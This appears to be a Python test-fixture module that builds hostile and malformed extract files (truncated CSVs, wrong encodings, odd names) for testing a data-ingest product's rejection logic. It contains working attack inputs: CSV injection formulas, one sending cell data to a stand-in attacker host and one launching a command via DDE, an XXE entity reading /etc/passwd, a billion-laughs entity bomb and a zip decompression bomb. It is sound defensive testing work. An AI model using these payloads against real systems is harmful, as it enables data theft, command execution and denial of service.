"""A corpus of malformed and hostile extract files, each with the outcome the product owes it.

Issue 7, item 3: truncated files, wrong encodings, huge fields, CSV injection strings, zip and XML
entity bombs, path-like names, duplicate headers, dates out of range, extreme numbers and the
rest. Every file is built from code (deterministic bytes, nothing checked in) by `write_hostile`
so the corpus costs no repository space and a bomb never sits on disk longer than a test.

Each `HostileFile` says what must happen to it (`extracts.md`, `operations.md`):
- `REJECTED`: the original moves to `rejected/<kind>/` beside `<file>.errors.csv` and
  `<file>.errors.txt`, nothing is loaded, and the message is specific: the errors list names the
  expected rows and columns and the summary matches `message`.
- `ACCEPTED`: the file is valid despite its hostile content (a formula-looking text, an odd file
  name); it loads `rows` rows and the original moves to `archive/<kind>/`.
- `EITHER`: the spec allows both (a syntactically valid but implausible date); whichever happens
  must happen safely, with the same checks as above for the branch taken.
- `WAITS`: a hidden file (name starting with `.`): ingest leaves it in the inbox untouched, as it
  does for partial uploads and editor lock files.
"""

from __future__ import annotations

import codecs
import csv
import gzip
import io
import random
import struct
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import date, datetime, timedelta
from enum import Enum
from pathlib import Path

from openpyxl import Workbook


class Outcome(Enum):
    REJECTED = "rejected"
    ACCEPTED = "accepted"
    EITHER = "either"
    WAITS = "waits"


@dataclass(frozen=True)
class HostileFile:
    """One corpus file: how to build it and what the product must do with it."""

    name: str
    kind: str
    hostile: str  # what is wrong or dangerous about it, in a few words
    build: Callable[[], bytes]
    outcome: Outcome
    rows: int | None = None  # data rows loaded when accepted
    problem_rows: tuple[int, ...] = ()  # rows errors.csv must name (as a person counts lines)
    problem_columns: tuple[str, ...] = ()  # columns errors.csv must name
    message: str | None = None  # regex (case-insensitive) errors.txt must match


# --- Valid rows per kind: every hostile file starts from these so one defect is isolated --------

CALL_HEADER = (
    "contact_id",
    "segment_id",
    "started_at",
    "queued_at",
    "answered_at",
    "ended_at",
    "caller_number",
    "queue",
    "disposition",
    "language",
)
CHAT_HEADER = (
    "contact_id",
    "started_at",
    "answered_at",
    "ended_at",
    "visitor_id",
    "spam_flag",
    "disposition",
    "language",
)
EMAIL_HEADER = ("contact_id", "received_at", "sender", "spam_flag", "disposition")
TEXT_HEADER = ("contact_id", "started_at", "sender", "spam_flag", "disposition")
SURVEY_HEADER = ("response_id", "channel", "submitted_at", "answer", "contact_id")
WEB_HEADER = ("date", "hostname", "sessions")
FINANCE_HEADER = ("period", "account", "description", "funding_source", "amount")

# CSV injection payloads (OWASP): a spreadsheet would run these if a report copied them out live.
INJECTIONS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
)


def call_row(number: int, **changes: str) -> list[str]:
    minute = number % 50
    row = {
        "contact_id": f"HX-CA-{number:05d}",
        "segment_id": f"HX-CA-{number:05d}-1",
        "started_at": f"2025-05-01T09:{minute:02d}:00-04:00",
        "queued_at": f"2025-05-01T09:{minute:02d}:30-04:00",
        "answered_at": f"2025-05-01T09:{minute + 1:02d}:00-04:00",
        "ended_at": f"2025-05-01T09:{minute + 6:02d}:00-04:00",
        "caller_number": f"416-555-{number % 10000:04d}",
        "queue": "211_EN",
        "disposition": "Information Only",
        "language": "en",
    }
    row.update(changes)
    return [row[column] for column in CALL_HEADER]


def chat_row(number: int, **changes: str) -> list[str]:
    row = {
        "contact_id": f"HX-CH-{number:05d}",
        "started_at": "2025-05-01T10:00:00-04:00",
        "answered_at": "2025-05-01T10:01:00-04:00",
        "ended_at": "2025-05-01T10:15:00-04:00",
        "visitor_id": f"v-hx{number:08d}",
        "spam_flag": "false",
        "disposition": "Information Only",
        "language": "en",
    }
    row.update(changes)
    return [row[column] for column in CHAT_HEADER]


def email_row(number: int, **changes: str) -> list[str]:
    row = {
        "contact_id": f"HX-EM-{number:05d}",
        "received_at": "2025-05-01T11:00:00-04:00",
        "sender": f"person.{number}@example.com",
        "spam_flag": "no",
        "disposition": "Information Only",
    }
    row.update(changes)
    return [row[column] for column in EMAIL_HEADER]


def text_row(number: int, **changes: str) -> list[str]:
    row = {
        "contact_id": f"HX-TX-{number:05d}",
        "started_at": "2025-05-01T12:00:00-04:00",
        "sender": f"647 555 {number % 10000:04d}",
        "spam_flag": "0",
        "disposition": "Information Only",
    }
    row.update(changes)
    return [row[column] for column in TEXT_HEADER]


def survey_row(number: int, **changes: str) -> list[str]:
    row = {
        "response_id": f"HX-SR-{number:05d}",
        "channel": "phone",
        "submitted_at": "2025-05-01T13:00:00-04:00",
        "answer": "Satisfied",
        "contact_id": f"HX-CA-{number:05d}",
    }
    row.update(changes)
    return [row[column] for column in SURVEY_HEADER]


def web_row(number: int, **changes: str) -> list[str]:
    day = date(2025, 4, 1) + timedelta(days=number % 365)
    row = {"date": day.isoformat(), "hostname": "www.211ontario.ca", "sessions": "1200"}
    row.update(changes)
    return [row[column] for column in WEB_HEADER]


def finance_row(number: int, **changes: str) -> list[str]:
    row = {
        "period": "2025-05",
        "account": f"5{number:03d}",
        "description": "Salaries and wages",
        "funding_source": "MCCSS",
        "amount": f"{1000 + number}.25",
    }
    row.update(changes)
    return [row[column] for column in FINANCE_HEADER]


ROW_MAKERS: dict[str, Callable[..., list[str]]] = {
    "calls": call_row,
    "chats": chat_row,
    "emails": email_row,
    "texts": text_row,
    "surveys": survey_row,
    "web": web_row,
    "finance": finance_row,
}
HEADERS: dict[str, Sequence[str]] = {
    "calls": CALL_HEADER,
    "chats": CHAT_HEADER,
    "emails": EMAIL_HEADER,
    "texts": TEXT_HEADER,
    "surveys": SURVEY_HEADER,
    "web": WEB_HEADER,
    "finance": FINANCE_HEADER,
}


def csv_text(header: Sequence[str], rows: Sequence[Sequence[str]], newline: str = "\r\n") -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator=newline)
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


def good_csv(kind: str, count: int = 3, first: int = 1, **changes_by_row: dict[str, str]) -> str:
    """`count` valid rows of `kind`; `changes_by_row["r<N>"]` alters the N-th data row (1-based)."""
    make = ROW_MAKERS[kind]
    rows = [
        make(number, **changes_by_row.get(f"r{number - first + 1}", {}))
        for number in range(first, first + count)
    ]
    return csv_text(HEADERS[kind], rows)


def utf8(text: str) -> Callable[[], bytes]:
    return lambda: text.encode("utf-8")


# --- Workbooks --------------------------------------------------------------------------------


def _workbook_bytes(rows: Sequence[Sequence[object]], formula_cells: Sequence[str] = ()) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = "Expenditures"
    for row in rows:
        sheet.append(list(row))
    for reference in formula_cells:
        sheet[reference] = "=1000*2"
    # Text that looks like a formula must stay text (openpyxl would store it as a formula).
    for row in sheet.iter_rows():
        for cell in row:
            looks_like_formula = isinstance(cell.value, str) and cell.value.startswith(
                ("=", "+", "-", "@")
            )
            if looks_like_formula and cell.coordinate not in formula_cells:
                cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def good_workbook_rows(count: int = 3) -> list[list[object]]:
    return [
        list(FINANCE_HEADER),
        *(
            [datetime(2025, 5, 1), f"5{n:03d}", "Rent and occupancy", "MCCSS", 1000.25 + n]
            for n in range(1, count + 1)
        ),
    ]


def _replace_entry(workbook: bytes, entry: str, data: bytes | None = None) -> bytes:
    """The workbook with one zip entry's bytes replaced (or its data streamed by `data`)."""
    source = zipfile.ZipFile(io.BytesIO(workbook))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = data if info.filename == entry and data is not None else source.read(info)
            target.writestr(info.filename, content)
    return buffer.getvalue()


def ratio_bomb_workbook() -> bytes:
    """64 MB of sheet XML (whitespace between elements) that deflates to about 64 KB."""
    base = _workbook_bytes(good_workbook_rows())
    source = zipfile.ZipFile(io.BytesIO(base))
    sheet = source.read("xl/worksheets/sheet1.xml")
    cut = sheet.index(b"<sheetData>") + len(b"<sheetData>")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                target.writestr(info.filename, source.read(info))
                continue
            entry = zipfile.ZipInfo(info.filename)
            entry.compress_type = zipfile.ZIP_DEFLATED
            with target.open(entry, "w", force_zip64=True) as handle:
                handle.write(sheet[:cut])
                block = b" " * (1 << 20)
                for _ in range(64):
                    handle.write(block)
                handle.write(sheet[cut:])
    return buffer.getvalue()


def lying_size_workbook() -> bytes:
    """A small workbook whose zip directory declares a 4 GB sheet: limits must trust nothing."""
    data = bytearray(_workbook_bytes(good_workbook_rows()))
    declared = 0xFFFF0000
    target = b"xl/worksheets/sheet1.xml"
    # Central directory entries: signature PK\1\2, uncompressed size at offset 24, name at 46.
    position = data.find(b"PK\x01\x02")
    while position != -1:
        name_length = struct.unpack_from("<H", data, position + 28)[0]
        name = bytes(data[position + 46 : position + 46 + name_length])
        if name == target:
            struct.pack_into("<I", data, position + 24, declared)
        position = data.find(b"PK\x01\x02", position + 4)
    # Local header: signature PK\3\4, uncompressed size at offset 22, name at 30.
    position = data.find(b"PK\x03\x04")
    while position != -1:
        name_length = struct.unpack_from("<H", data, position + 26)[0]
        if bytes(data[position + 30 : position + 30 + name_length]) == target:
            struct.pack_into("<I", data, position + 22, declared)
        position = data.find(b"PK\x03\x04", position + 4)
    return bytes(data)


def _sheet_with_doctype(doctype: str, cell_text: str) -> bytes:
    """Sheet XML with a DOCTYPE and one inline-string cell that expands an entity."""
    header_cells = "".join(
        f'<c r="{column}1" t="inlineStr"><is><t>{name}</t></is></c>'
        for column, name in zip("ABCDE", FINANCE_HEADER, strict=True)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
        f"{doctype}\n"
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<sheetData><row r="1">{header_cells}</row>'
        '<row r="2"><c r="A2" t="inlineStr"><is><t>2025-05</t></is></c>'
        '<c r="B2" t="inlineStr"><is><t>5100</t></is></c>'
        f'<c r="C2" t="inlineStr"><is><t>{cell_text}</t></is></c>'
        '<c r="D2" t="inlineStr"><is><t>MCCSS</t></is></c>'
        '<c r="E2"><v>1000.25</v></c></row></sheetData></worksheet>'
    ).encode()


def entity_bomb_workbook() -> bytes:
    """Billion laughs: ten nested entities of ten each expand to 10^9 'lol's if parsed naively."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10}">' for n in range(1, 10)
    ]
    doctype = "<!DOCTYPE worksheet [" + "".join(entities) + "]>"
    base = _workbook_bytes(good_workbook_rows())
    return _replace_entry(base, "xl/worksheets/sheet1.xml", _sheet_with_doctype(doctype, "&lol9;"))


def external_entity_workbook() -> bytes:
    """XXE: an entity that would pull a local file's text into the description cell."""
    doctype = '<!DOCTYPE worksheet [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
    base = _workbook_bytes(good_workbook_rows())
    return _replace_entry(
        base, "xl/worksheets/sheet1.xml", _sheet_with_doctype(doctype, "&secret;")
    )


def ole_workbook() -> bytes:
    """What Excel writes for a password-protected workbook: an OLE compound file, not a zip."""
    header = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) + struct.pack("<HH", 0x3E, 0x3)
    body = random.Random("hostile:ole").randbytes(8192)
    return header + body[: 4096 - len(header)] + "EncryptedPackage".encode("utf-16-le") + body


def not_a_workbook_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "this zip holds no workbook")
    return buffer.getvalue()


# --- The corpus ---------------------------------------------------------------------------------

HUGE_CELL = "A" * (10 * 1024 * 1024)


def _truncated(text: str, keep_chars_of_last_row: int) -> str:
    """`text` cut inside its last row, as a copy interrupted mid-write leaves it."""
    body = text.rstrip("\r\n")
    last_start = body.rfind("\n") + 1
    return body[: last_start + keep_chars_of_last_row]


def hostile_files() -> list[HostileFile]:
    """The corpus, in a stable order (test ids come from the names)."""
    calls_three = good_csv("calls")
    files = [
        # ---- calls --------------------------------------------------------------------------
        HostileFile(
            "calls_truncated_mid_row.csv",
            "calls",
            "copy cut off inside the last row (fewer cells than the header)",
            utf8(_truncated(calls_three, 40)),
            Outcome.REJECTED,
            problem_rows=(4,),
        ),
        HostileFile(
            "calls_truncated_inside_quotes.csv",
            "calls",
            "cut off inside a quoted field: the last row never closes its quote",
            utf8(calls_three + 'HX-CA-00009,HX-CA-00009-1,2025-05-01T09:09:00-04:00,,,"2025-05'),
            Outcome.REJECTED,
            message=r"quote|row|cells|cannot be read|truncat",
        ),
        HostileFile(
            "calls_utf16.csv",
            "calls",
            "saved as UTF-16 ('Unicode Text') instead of UTF-8",
            lambda: codecs.BOM_UTF16_LE + calls_three.encode("utf-16-le"),
            Outcome.REJECTED,
            message=r"utf-?16|unicode|utf-?8|encoding",
        ),
        HostileFile(
            "calls_latin1.csv",
            "calls",
            "Latin-1 bytes in a non-finance extract (only finance may be Windows-1252)",
            lambda: good_csv("calls", r2={"disposition": "Référé – crise"}).encode(
                "latin-1", "replace"
            ),
            Outcome.REJECTED,
            message=r"utf-?8|encoding",
        ),
        HostileFile(
            "calls_huge_field.csv",
            "calls",
            "a 10 MB disposition cell",
            utf8(good_csv("calls", r2={"disposition": HUGE_CELL})),
            Outcome.EITHER,
            rows=3,
            problem_rows=(3,),
            problem_columns=("disposition",),
        ),
        HostileFile(
            "calls_csv_injection.csv",
            "calls",
            "formula-looking text in every text column",
            utf8(
                good_csv(
                    "calls",
                    r1={"disposition": INJECTIONS[0], "queue": INJECTIONS[2]},
                    r2={"caller_number": INJECTIONS[1], "language": INJECTIONS[3]},
                    r3={"disposition": INJECTIONS[3], "segment_id": INJECTIONS[2]},
                )
            ),
            Outcome.ACCEPTED,
            rows=3,
        ),
        HostileFile(
            "calls_duplicate_header.csv",
            "calls",
            "the header names started_at twice: which one is the call's start is ambiguous",
            utf8(
                csv_text(
                    (*CALL_HEADER, "started_at"),
                    [[*call_row(n), "2025-06-01T00:00:00-04:00"] for n in (1, 2)],
                )
            ),
            Outcome.REJECTED,
            message=r"started_at",
        ),
        HostileFile(
            "calls_year_0001.csv",
            "calls",
            "a start in the year 1",
            utf8(good_csv("calls", r2={"started_at": "0001-01-01T00:00:00-05:00"})),
            # Loaded, it gives fiscal year `0-01`, which breaks the build for every file.
            Outcome.REJECTED,
            problem_rows=(3,),
            problem_columns=("started_at",),
        ),
        HostileFile(
            "calls_year_9999.csv",
            "calls",
            "an end in the year 9999",
            utf8(good_csv("calls", r3={"ended_at": "9999-12-31T23:59:59-05:00"})),
            Outcome.EITHER,
            rows=3,
            problem_rows=(4,),
            problem_columns=("ended_at",),
        ),
        HostileFile(
            "calls_february_30.csv",
            "calls",
            "a date that does not exist (30 February)",
            utf8(
                good_csv(
                    "calls",
                    r1={
                        "started_at": "2025-02-30T09:00:00-05:00",
                        "queued_at": "",
                        "answered_at": "",
                        "ended_at": "2025-03-01T09:00:00-05:00",
                    },
                )
            ),
            Outcome.REJECTED,
            problem_rows=(2,),
            problem_columns=("started_at",),
        ),
        HostileFile(
            "calls_nul_bytes.csv",
            "calls",
            "NUL bytes inside a row",
            lambda: good_csv("calls").replace("Information Only", "Info\x00\x00Only", 1).encode(),
            Outcome.REJECTED,
            message=r"binary|nul|non-text|not a csv",
        ),
        HostileFile(
            "calls_bom_only.csv",
            "calls",
            "nothing but a UTF-8 byte-order mark",
            lambda: codecs.BOM_UTF8,
            Outcome.REJECTED,
            message=r"empty|no header|no data",
        ),
        HostileFile(
            "calls_blank_lines_only.csv",
            "calls",
            "only blank lines",
            utf8("\r\n\r\n   \r\n\n"),
            Outcome.REJECTED,
            message=r"empty|no header|no data",
        ),
        HostileFile(
            "calls_header_only.csv",
            "calls",
            "a header row and no data",
            utf8(csv_text(CALL_HEADER, [])),
            Outcome.REJECTED,
            message=r"no data|no rows|header only|only the header|empty",
        ),
        HostileFile(
            "calls_semicolon.csv",
            "calls",
            "';' between columns (a European Excel export)",
            utf8(good_csv("calls").replace(",", ";")),
            Outcome.REJECTED,
            message=r"';'|semicolon|delimit|separat",
        ),
        HostileFile(
            "calls_mixed_line_endings.csv",
            "calls",
            "CRLF, LF and a final line without a newline in one file",
            utf8(
                "\r\n".join(
                    [",".join(CALL_HEADER), ",".join(call_row(1)) + "\n" + ",".join(call_row(2))]
                )
                + "\r\n"
                + ",".join(call_row(3))
            ),
            Outcome.ACCEPTED,
            rows=3,
        ),
        HostileFile(
            "calls_unclosed_quote.csv",
            "calls",
            "a quote opened in row 2 and never closed: the rest of the file is one cell",
            utf8(
                calls_three.replace("Information Only", '"Information Only', 1)
                + ",".join(call_row(4))
                + "\r\n"
            ),
            Outcome.REJECTED,
            message=r"quote|cells|cannot be read|row",
        ),
        HostileFile(
            "..%2f..%2fetc.csv",
            "calls",
            "a path-traversal-looking name (percent-encoded slashes) that is also a hidden file",
            utf8(good_csv("calls", first=20)),
            Outcome.WAITS,
        ),
        HostileFile(
            "calls_..%2f..%2f..%2fetc%2fpasswd.csv",
            "calls",
            "a path-traversal-looking name (percent-encoded slashes, `..` parts)",
            utf8(good_csv("calls", first=25)),
            Outcome.ACCEPTED,
            rows=3,
        ),
        HostileFile(
            "calls week 1 – été (copy).csv",
            "calls",
            "spaces, an en dash, accents and parentheses in the name",
            utf8(good_csv("calls", first=30)),
            Outcome.ACCEPTED,
            rows=3,
        ),
        HostileFile(
            "calls\nline-break.csv",
            "calls",
            "a newline character inside the file name",
            utf8(good_csv("calls", first=40)),
            Outcome.ACCEPTED,
            rows=3,
        ),
        HostileFile(
            "calls_" + "x" * 240 + ".csv",
            "calls",
            "a 250-character name: `<name>.errors.csv` would pass the 255-byte name limit",
            utf8(csv_text(CALL_HEADER, [])),
            Outcome.REJECTED,
            message=r"no data|no rows|header only|only the header|empty",
        ),
        HostileFile(
            "calls_missing_required.csv",
            "calls",
            "no ended_at and no queue column",
            utf8(
                csv_text(
                    [c for c in CALL_HEADER if c not in ("ended_at", "queue")],
                    [
                        [
                            v
                            for c, v in zip(CALL_HEADER, call_row(1), strict=True)
                            if c not in ("ended_at", "queue")
                        ]
                    ],
                )
            ),
            Outcome.REJECTED,
            message=r"ended_at[\s\S]*queue|queue[\s\S]*ended_at",
        ),
        # ---- chats --------------------------------------------------------------------------
        HostileFile(
            "chats_csv_injection.csv",
            "chats",
            "formula-looking visitor ids and dispositions",
            utf8(
                good_csv(
                    "chats",
                    r1={"visitor_id": INJECTIONS[0], "disposition": INJECTIONS[1]},
                    r2={"visitor_id": INJECTIONS[2], "language": INJECTIONS[3]},
                )
            ),
            Outcome.ACCEPTED,
            rows=3,
        ),
        HostileFile(
            "chats_bad_boolean.csv",
            "chats",
            "spam_flag 'maybe' (not a boolean spelling)",
            utf8(good_csv("chats", r3={"spam_flag": "maybe"})),
            Outcome.REJECTED,
            problem_rows=(4,),
            problem_columns=("spam_flag",),
        ),
        HostileFile(
            "chats_latin1.csv",
            "chats",
            "Latin-1 accents in a chat export",
            lambda: good_csv("chats", r1={"disposition": "Référence"}).encode("latin-1"),
            Outcome.REJECTED,
            message=r"utf-?8|encoding",
        ),
        HostileFile(
            "chats_truncated.csv",
            "chats",
            "cut off inside the last row",
            utf8(_truncated(good_csv("chats"), 25)),
            Outcome.REJECTED,
            problem_rows=(4,),
        ),
        HostileFile(
            "chats_ended_before_started_far.csv",
            "chats",
            "ended_at a century before started_at",
            utf8(good_csv("chats", r2={"ended_at": "1925-05-01T10:15:00-04:00"})),
            # extracts.md states "not before started_at" for calls only.
            Outcome.EITHER,
            rows=3,
            problem_rows=(3,),
            problem_columns=("ended_at",),
        ),
        # ---- emails -------------------------------------------------------------------------
        HostileFile(
            "emails_utf16_no_bom.csv",
            "emails",
            "UTF-16 without a byte-order mark (NUL bytes between characters)",
            lambda: good_csv("emails").encode("utf-16-le"),
            Outcome.REJECTED,
            message=r"binary|nul|non-text|utf|encoding",
        ),
        HostileFile(
            "emails_csv_injection.csv",
            "emails",
            "formula-looking senders and dispositions",
            utf8(
                good_csv(
                    "emails",
                    r1={"sender": "=cmd|' /C calc'!A0@example.com", "disposition": INJECTIONS[0]},
                    r3={"disposition": INJECTIONS[2]},
                )
            ),
            Outcome.ACCEPTED,
            rows=3,
        ),
        HostileFile(
            "emails_unparseable_timestamp.csv",
            "emails",
            "received_at 'yesterday afternoon'",
            utf8(good_csv("emails", r2={"received_at": "yesterday afternoon"})),
            Outcome.REJECTED,
            problem_rows=(3,),
            problem_columns=("received_at",),
        ),
        # ---- texts --------------------------------------------------------------------------
        HostileFile(
            "texts_random_bytes.csv",
            "texts",
            "64 KB of random bytes named .csv",
            lambda: random.Random("hostile:texts").randbytes(65536),
            Outcome.REJECTED,
            message=r"binary|non-text|utf-?8|encoding|not a csv",
        ),
        HostileFile(
            "texts_gzip_renamed.csv",
            "texts",
            "a gzip archive renamed .csv",
            lambda: gzip.compress(good_csv("texts").encode(), mtime=0),
            Outcome.REJECTED,
            message=r"binary|non-text|utf-?8|encoding|not a csv",
        ),
        HostileFile(
            "texts_xlsx_renamed.csv",
            "texts",
            "an Excel workbook renamed .csv",
            lambda: _workbook_bytes([list(TEXT_HEADER), text_row(1)]),
            Outcome.REJECTED,
            message=r"workbook|spreadsheet|binary|not a csv",
        ),
        # ---- surveys ------------------------------------------------------------------------
        HostileFile(
            "surveys_csv_injection.csv",
            "surveys",
            "formula-looking answers and channels",
            utf8(
                good_csv(
                    "surveys",
                    r1={"answer": '=HYPERLINK("http://attacker.example","Very satisfied")'},
                    r2={"channel": INJECTIONS[1], "answer": INJECTIONS[2]},
                    r3={"answer": INJECTIONS[3]},
                )
            ),
            Outcome.ACCEPTED,
            rows=3,
        ),
        HostileFile(
            "surveys_duplicate_header_case.csv",
            "surveys",
            "'answer' and 'Answer' both in the header (the same name, case-insensitively)",
            utf8(
                csv_text(
                    (*SURVEY_HEADER, "Answer"), [[*survey_row(n), "Not satisfied"] for n in (1, 2)]
                )
            ),
            Outcome.REJECTED,
            message=r"answer",
        ),
        HostileFile(
            "surveys_month_13.csv",
            "surveys",
            "submitted_at in month 13",
            utf8(good_csv("surveys", r1={"submitted_at": "2025-13-01T13:00:00-04:00"})),
            Outcome.REJECTED,
            problem_rows=(2,),
            problem_columns=("submitted_at",),
        ),
        # ---- web ----------------------------------------------------------------------------
        HostileFile(
            "web_sessions_1e308.csv",
            "web",
            "sessions 1e308 (a float, and no integer type holds it)",
            utf8(good_csv("web", r2={"sessions": "1e308"})),
            Outcome.REJECTED,
            problem_rows=(3,),
            problem_columns=("sessions",),
        ),
        HostileFile(
            "web_sessions_negative.csv",
            "web",
            "negative sessions",
            utf8(good_csv("web", r1={"sessions": "-40"})),
            Outcome.REJECTED,
            problem_rows=(2,),
            problem_columns=("sessions",),
        ),
        HostileFile(
            "web_sessions_overflow.csv",
            "web",
            "sessions 99999999999999999999 (beyond a 64-bit integer)",
            utf8(good_csv("web", r3={"sessions": "99999999999999999999"})),
            Outcome.REJECTED,
            problem_rows=(4,),
            problem_columns=("sessions",),
        ),
        HostileFile(
            "web_date_year_0001.csv",
            "web",
            "a day in the year 1, in the compact YYYYMMDD form",
            utf8(good_csv("web", r2={"date": "00010101"})),
            # Loaded, it gives fiscal year `0-01`, which breaks the build for every file.
            Outcome.REJECTED,
            problem_rows=(3,),
            problem_columns=("date",),
        ),
        HostileFile(
            "web_comment_lines_only.csv",
            "web",
            "only '#' comment lines, as an export of an empty property writes",
            utf8("# GA4 export\r\n# no data for this range\r\n"),
            Outcome.REJECTED,
            message=r"empty|no header|no data",
        ),
        # ---- finance ------------------------------------------------------------------------
        HostileFile(
            "finance_zip_bomb.xlsx",
            "finance",
            "64 MB of sheet XML deflated to about 64 KB (a decompression bomb)",
            ratio_bomb_workbook,
            Outcome.REJECTED,
            # 64 MB is under the absolute unpacked-size limit: only the ratio check catches it,
            # and the message must say so rather than quote a size that is within the limit.
            message=r"ratio|compress",
        ),
        HostileFile(
            "finance_declared_4gb.xlsx",
            "finance",
            "a small workbook whose zip directory declares a 4 GB sheet",
            lying_size_workbook,
            Outcome.REJECTED,
            message=r"uncompress|unpack|too large|hostile|damaged|size|corrupt",
        ),
        HostileFile(
            "finance_entity_bomb.xlsx",
            "finance",
            "billion laughs: nested XML entities in the sheet",
            entity_bomb_workbook,
            Outcome.REJECTED,
            message=r"entit|dtd|doctype|corrupt|damaged|cannot be (read|opened)|not a valid",
        ),
        HostileFile(
            "finance_external_entity.xlsx",
            "finance",
            "an XML external entity pointing at /etc/passwd",
            external_entity_workbook,
            Outcome.REJECTED,
            message=r"entit|dtd|doctype|corrupt|damaged|cannot be (read|opened)|not a valid",
        ),
        HostileFile(
            "finance_password_protected.xlsx",
            "finance",
            "an OLE compound file (what a password-protected workbook is) named .xlsx",
            ole_workbook,
            Outcome.REJECTED,
            message=r"password|encrypt|protected",
        ),
        HostileFile(
            "finance_random_bytes.xlsx",
            "finance",
            "random bytes named .xlsx",
            lambda: random.Random("hostile:xlsx").randbytes(32768),
            Outcome.REJECTED,
            message=r"corrupt|damaged|not an? (excel|xlsx|valid)|cannot be (read|opened)|workbook",
        ),
        HostileFile(
            "finance_zip_without_workbook.xlsx",
            "finance",
            "a valid zip holding no workbook",
            not_a_workbook_zip,
            Outcome.REJECTED,
            message=r"corrupt|damaged|not an? (excel|xlsx|valid)|cannot be (read|opened)|workbook",
        ),
        HostileFile(
            "finance_formula_amount.xlsx",
            "finance",
            "a formula in the amount column",
            lambda: _workbook_bytes(good_workbook_rows(), formula_cells=("E3",)),
            Outcome.REJECTED,
            problem_rows=(3,),
            problem_columns=("amount",),
        ),
        HostileFile(
            "finance_xlsx_injection_text.xlsx",
            "finance",
            "formula-looking text cells (typed as text) in account and description",
            lambda: _workbook_bytes(
                [
                    list(FINANCE_HEADER),
                    ["2025-05", INJECTIONS[2], INJECTIONS[0], "MCCSS", 1200.5],
                    ["2025-05", "5100", INJECTIONS[1], "Ministry", 99.99],
                ]
            ),
            Outcome.ACCEPTED,
            rows=2,
        ),
        HostileFile(
            "finance_amount_too_large.csv",
            "finance",
            "amount 99999999999999999999.99",
            utf8(good_csv("finance", r2={"amount": "99999999999999999999.99"})),
            Outcome.REJECTED,
            problem_rows=(3,),
            problem_columns=("amount",),
        ),
        HostileFile(
            "finance_amount_1e308.csv",
            "finance",
            "amount 1e308",
            utf8(good_csv("finance", r1={"amount": "1e308"})),
            Outcome.REJECTED,
            problem_rows=(2,),
            problem_columns=("amount",),
        ),
        HostileFile(
            "finance_csv_injection.csv",
            "finance",
            "formula-looking account and description text",
            utf8(
                good_csv(
                    "finance",
                    r1={"description": INJECTIONS[0], "account": INJECTIONS[2]},
                    r2={"description": INJECTIONS[1]},
                )
            ),
            Outcome.ACCEPTED,
            rows=3,
        ),
        HostileFile(
            "finance_windows_1252.csv",
            "finance",
            "Windows-1252 with French accents and an en dash (the finance exception)",
            lambda: good_csv(
                "finance", r1={"description": "Fournitures de bureau – Montréal"}
            ).encode("cp1252"),
            Outcome.ACCEPTED,
            rows=3,
        ),
        HostileFile(
            "finance_utf16.csv",
            "finance",
            "a finance CSV saved as UTF-16 (not one of the accepted encodings)",
            lambda: codecs.BOM_UTF16_LE + good_csv("finance").encode("utf-16-le"),
            Outcome.REJECTED,
            message=r"utf-?16|unicode|utf-?8|encoding|binary",
        ),
        HostileFile(
            "finance_february_30.csv",
            "finance",
            "period 2025-02-30",
            utf8(good_csv("finance", r3={"period": "2025-02-30"})),
            Outcome.REJECTED,
            problem_rows=(4,),
            problem_columns=("period",),
        ),
        HostileFile(
            "finance_period_year_0001.csv",
            "finance",
            "period 0001-04 (a month in the year 1)",
            utf8(good_csv("finance", r1={"period": "0001-04"})),
            Outcome.REJECTED,
            problem_rows=(2,),
            problem_columns=("period",),
        ),
        HostileFile(
            "finance_unknown_funding_source.csv",
            "finance",
            "funding source written as an injection string (not in the mapping)",
            utf8(good_csv("finance", r2={"funding_source": INJECTIONS[0]})),
            Outcome.REJECTED,
            problem_rows=(3,),
            problem_columns=("funding_source",),
        ),
    ]
    return files


def write_hostile(spec: HostileFile, folder: Path) -> Path:
    """Write one corpus file into `folder` (the kind's inbox) and return its path."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / spec.name
    path.write_bytes(spec.build())
    return path
